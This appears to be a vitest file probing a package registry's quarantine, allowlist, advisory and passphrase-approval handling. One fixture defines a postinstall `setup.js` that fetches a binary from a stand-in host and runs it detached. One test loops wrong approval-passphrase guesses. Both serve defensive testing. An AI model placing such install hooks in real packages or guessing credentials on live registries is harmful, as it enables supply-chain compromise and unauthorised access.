import { expect, test } from "vitest";
import { hashPassword } from "../../src/access/password.ts";
import { networkOf } from "../../src/access/attempts.ts";
import { openChannel } from "../support/channel.ts";
import { malware } from "../support/osv.ts";
import { startRegistry } from "../support/registry.ts";
import { hookFiles, hookManifest, rule } from "../support/review.ts";
import { startUpstream } from "../support/upstream.ts";

const phrase = "correct horse battery";
const passphrase = await hashPassword(phrase);
const config = { approval: { passphrase } };

const installer = (version: string) => ({
  "setup.js": `// ${version}
const https = require("https");
https.get("https://files.example/bin", (r) => r.pipe(require("fs").createWriteStream("bin")));
require("child_process").spawn("./bin", { detached: true, stdio: "ignore" });
`,
});
const manifest = { scripts: { postinstall: "node setup.js" } };

test("A: pinned entry", async () => {
  await using registry = await startRegistry();
  await using listening = registry.listen();
  await using channel = await openChannel(listening, { token: registry.token });
  await registry.publish("lib", "1.0.0", installer("1"), { manifest });
  const added = await channel.ask("addPackageAllowlistEntry", {
    pattern: "lib",
    rules: [],
    integrity: "sha512-" + "A".repeat(86) + "==",
  });
  const a = await channel.ask("approveQuarantine", { file: "lib-1.0.0.tgz", scope: "findings", note: "x" });
  console.log(JSON.stringify(added.data), JSON.stringify(a.data));
  console.log(JSON.stringify((await channel.ask("getPackageAllowlist")).data));
});

test("B: oracle by an agent", async () => {
  await using registry = await startRegistry({ config });
  const made = await registry.asOwner("/-/admin/tokens", { method: "POST", json: { scopes: ["read", "publish"], agent: true } });
  const { secret: token } = (await made.json()) as { secret: string };
  const guess = (p: string) => registry.fetch("/-/package/x/dist-tags/foo", { method: "PUT", json: "1.0.0", token, peer: "127.0.0.1", headers: { "x-approval-passphrase": p } });
  for (let i = 0; i < 11; i++) { const r = await guess("wrong-one"); console.log(r.status, (await r.text()).slice(0, 120)); }
  const r = await registry.asOwner("/-/admin/allowlist/entry", { method: "POST", peer: "127.0.0.1", json: { pattern: "10.0.0.0/8", passphrase: phrase } });
  console.log("owner", r.status);
});

test("C1: forget rejection", async () => {
  await using registry = await startRegistry({ config });
  await registry.publish("lib", "1.0.0", { "a.js": "1" });
  await registry.publish("bad", "1.0.0", hookFiles, { manifest: hookManifest });
  await rule(registry, "bad@1.0.0", "approve", { passphrase: phrase });
  console.log((await registry.tarball("bad", "1.0.0")).status);
  const rej = await rule(registry, "bad@1.0.0", "reject");
  console.log(rej.status, (await registry.tarball("bad", "1.0.0")).status);
  const f = await rule(registry, "bad@1.0.0", "forget");
  console.log(f.status, (await registry.tarball("bad", "1.0.0")).status);
});

test("C2: withdraw advisory", async () => {
  await using registry = await startRegistry({ config });
  await registry.publish("lib", "1.0.0", { "a.js": "1" });
  const imp = (r: object) => registry.asOwner("/-/admin/advisories", { method: "POST", json: { advisories: [r] } });
  await imp(malware("MAL-2026-1", "lib"));
  console.log((await registry.tarball("lib", "1.0.0")).status);
  const w = await imp(malware("MAL-2026-1", "lib", { withdrawn: "2026-01-02T00:00:00Z" }));
  console.log(w.status, (await registry.tarball("lib", "1.0.0")).status);
});

test("I", () => {
  console.log(networkOf("2001:db8::1"), networkOf("2001:db8::2"), networkOf("2001:db8:0:0:5::1"), networkOf("::1"));
});

test("J: cleanup with odd tags", async () => {
  await using upstream = startUpstream();
  upstream.add("odd", "1.0.0");
  upstream.patch("odd", { "dist-tags": { latest: { toString: 1, valueOf: 2 } } });
  await using registry = await startRegistry({ upstream });
  await registry.publish("lib", "1.0.0", {}, { manifest: { dependencies: { odd: "*" } } });
  console.log((await registry.fetch("/odd")).status, (await registry.tarball("odd", "1.0.0")).status);
  const r = await registry.asOwner("/-/admin/cleanup", { method: "POST", json: {} });
  console.log(r.status, await r.text());
  const g = await registry.asOwner("/api/graph");
  console.log(g.status, await g.text());
});
